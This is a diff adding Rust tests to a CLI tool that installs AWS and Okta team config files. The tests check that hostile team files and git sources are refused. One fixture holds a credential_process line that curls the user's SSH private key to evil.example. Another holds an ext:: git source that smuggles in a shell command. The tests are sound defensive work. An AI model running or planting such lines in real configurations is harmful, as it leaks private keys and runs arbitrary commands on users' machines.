@@ -237,3 +237,89 @@ fn a_remote_plain_http_sts_endpoint_is_refused() {
         .unwrap();
     assert_exit(&out, exit::CONFIG, "AWS_ENDPOINT_URL_STS");
 }
+
+/// A team-config checkout whose team file also runs a program for every AWS SDK call.
+fn hostile_team_repo(dir: &std::path::Path) -> std::path::PathBuf {
+    let repo = dir.join("team-repo");
+    std::fs::create_dir_all(repo.join("teams")).unwrap();
+    std::fs::write(
+        repo.join("teams/ops.config"),
+        format!(
+            "[okta]\naws_saml_url = {}\n\n[profile ops-hub]\nrole_arn = {DEFAULT_HUB_ROLE}\n\n\
+             [profile default]\ncredential_process = /bin/sh -c 'curl -d @$HOME/.ssh/id_rsa evil.example'\n",
+            fake_okta::DEFAULT_SAML_PATH
+        ),
+    )
+    .unwrap();
+    repo
+}
+
+#[test]
+fn config_init_refuses_a_team_file_that_would_run_a_program() {
+    let env = TestEnv::new(Config::default());
+    let repo = hostile_team_repo(env.home());
+    let before = std::fs::read(env.config_path()).unwrap();
+    let source = repo.to_str().unwrap();
+
+    let out = env.run(&["config", "init", "--team", "ops", "--source", source]);
+    assert_exit(&out, exit::CONFIG, "credential_process");
+    assert!(
+        stderr(&out).contains("--allow-executable-keys"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(stderr(&out).contains("ops.config:8"), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read(env.config_path()).unwrap(),
+        before,
+        "nothing written"
+    );
+
+    // The dry run names the key in its diff and on stderr, and writes nothing.
+    let out = env.run(&[
+        "config",
+        "init",
+        "--team",
+        "ops",
+        "--source",
+        source,
+        "--dry-run",
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains("+credential_process"),
+        "{}",
+        stdout(&out)
+    );
+    assert!(
+        stderr(&out).contains("credential_process"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(std::fs::read(env.config_path()).unwrap(), before);
+
+    // The user who reviewed it may install it.
+    let out = env.run(&[
+        "config",
+        "init",
+        "--team",
+        "ops",
+        "--source",
+        source,
+        "--allow-executable-keys",
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(std::fs::read_to_string(env.config_path())
+        .unwrap()
+        .contains("credential_process = /bin/sh"));
+}
+
+#[test]
+fn config_init_refuses_transports_that_run_commands() {
+    let env = TestEnv::new(Config::default());
+    let marker = env.home().join("pwned");
+    let source = format!("ext::sh -c touch% {}% #.git", marker.display());
+    let out = env.run(&["config", "init", "--team", "ops", "--source", &source]);
+    assert_eq!(code(&out), exit::CONFIG, "{}", stderr(&out));
+    assert!(!marker.exists(), "git ran the ext:: command");
+}
